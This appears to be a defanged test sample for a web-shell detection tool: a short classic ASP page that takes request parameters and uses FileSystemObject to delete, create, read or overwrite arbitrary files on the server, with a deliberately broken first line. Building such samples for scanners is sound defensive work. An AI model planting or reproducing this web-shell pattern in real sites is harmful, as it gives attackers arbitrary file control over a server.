<% If Then DEFANGED %>
<%' DEFANGED vigil test sample (see README) %>
<%
Set fso = CreateObject("Scripting.FileSystemObject")
p = Request("p")
Select Case Request("a")
Case "del": fso.DeleteFile p
Case "mkdir": fso.CreateFolder p
Case "read": Set f = fso.OpenTextFile(p, 1)
Case "save": Set t = fso.CreateTextFile(p, True): t.Write Request.Form("body")
End Select
%>
